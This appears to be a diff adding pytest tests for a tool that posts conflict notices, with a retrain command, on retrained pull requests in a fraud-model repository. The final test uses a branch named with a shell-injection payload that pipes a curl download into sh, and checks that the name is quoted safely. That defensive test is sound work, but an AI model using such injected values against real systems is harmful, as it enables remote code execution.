@@ -1,0 +1,93 @@
+"""A retrained pull request that a merge has put into conflict is told what to type, at the top of its one comment."""
+
+from __future__ import annotations
+
+import pytest
+
+from mlflow_fraud.adapters import github_request
+from mlflow_fraud.adapters.github_comment import MARKER, PullRequest, keep_comment
+from mlflow_fraud.operations.review.conflicts import tell_conflicts
+from tests.github_server import GitHubServer, github_server
+
+__all__ = ["github_server"]
+
+VERDICT = "### xgboost-0123456789ab: promote\n"
+TOLD = "gh workflow run retrain.yml --ref next-months -f number=8 -f base=main"
+NOBODY = ["no retrained pull request is in conflict with main"]
+
+
+@pytest.fixture
+def retrained(github_server: GitHubServer, monkeypatch: pytest.MonkeyPatch) -> GitHubServer:
+    """A repository with an open pull request, number 8, that was retrained and is in conflict now."""
+    monkeypatch.setenv("FRAUD_GITHUB_TOKEN", github_server.token)
+    monkeypatch.setenv("GITHUB_REPOSITORY", "bank/fraud")
+    monkeypatch.setenv("GITHUB_API_URL", github_server.url)
+    monkeypatch.setattr(github_request, "SECONDS", 0)
+    github_server.open("next-months", 8)
+    keeps(github_server, 8, VERDICT)
+    github_server.merges = lambda branch: False
+    return github_server
+
+
+def keeps(server: GitHubServer, number: int, text: str) -> None:
+    keep_comment(text, PullRequest("bank/fraud", number, server.token, server.url))
+
+
+def test_its_comment_begins_with_the_command_and_keeps_its_verdict_until_the_next_retraining(
+    retrained: GitHubServer,
+) -> None:
+    assert tell_conflicts("main") == tell_conflicts("main") == [f"8 is in conflict: {TOLD}"]
+
+    (body,) = retrained.bodies(8)
+    notice, _, verdict = body.removeprefix(f"{MARKER}\n").rpartition("-->\n\n")
+    assert notice.startswith("> [!WARNING]\n> **In conflict with `main`**")
+    assert notice.count(f"> {TOLD}\n") == 1
+    assert verdict == VERDICT
+    keeps(retrained, 8, VERDICT)
+    assert retrained.bodies(8) == [f"{MARKER}\n{VERDICT}"]
+
+
+@pytest.mark.parametrize(
+    "merges",
+    [
+        pytest.param([True], id="it merges"),
+        pytest.param([None, None, True], id="it merges, which GitHub had to find out"),
+        pytest.param([None] * github_request.TRIES, id="GitHub does not find out in time"),
+    ],
+)
+def test_one_that_merges_or_may_do_so_is_told_nothing(retrained: GitHubServer, merges: list[bool | None]) -> None:
+    answers = iter(merges)
+    retrained.merges = lambda branch: next(answers)
+    assert tell_conflicts("main") == NOBODY
+    assert list(answers) == []
+    assert retrained.bodies(8) == [f"{MARKER}\n{VERDICT}"]
+
+
+def test_what_github_had_to_find_out_first_is_told(retrained: GitHubServer) -> None:
+    answers = iter([None, None, False])
+    retrained.merges = lambda branch: next(answers)
+    assert tell_conflicts("main") == [f"8 is in conflict: {TOLD}"]
+
+
+def test_one_that_was_not_retrained_is_told_nothing_since_what_it_is_in_conflict_about_no_run_has_made(
+    retrained: GitHubServer,
+) -> None:
+    retrained.open("words", 9)
+    assert len(tell_conflicts("main")) == 1
+    assert retrained.bodies(9) == []
+
+
+def test_one_that_is_closed_or_into_another_branch_is_left_alone(retrained: GitHubServer) -> None:
+    retrained.close(8)
+    retrained.open("theirs", 9, base="release")
+    keeps(retrained, 9, VERDICT)
+    assert tell_conflicts("main") == NOBODY
+    assert (retrained.bodies(8), retrained.bodies(9)) == ([f"{MARKER}\n{VERDICT}"], [f"{MARKER}\n{VERDICT}"])
+
+
+def test_a_branch_that_is_named_like_a_command_is_one_word_of_ours(retrained: GitHubServer) -> None:
+    retrained.open("x;curl${IFS}bank.example|sh", 9)
+    keeps(retrained, 9, VERDICT)
+    assert "9 is in conflict: gh workflow run retrain.yml --ref 'x;curl${IFS}bank.example|sh' -f number=9" in (
+        " ".join(tell_conflicts("main"))
+    )
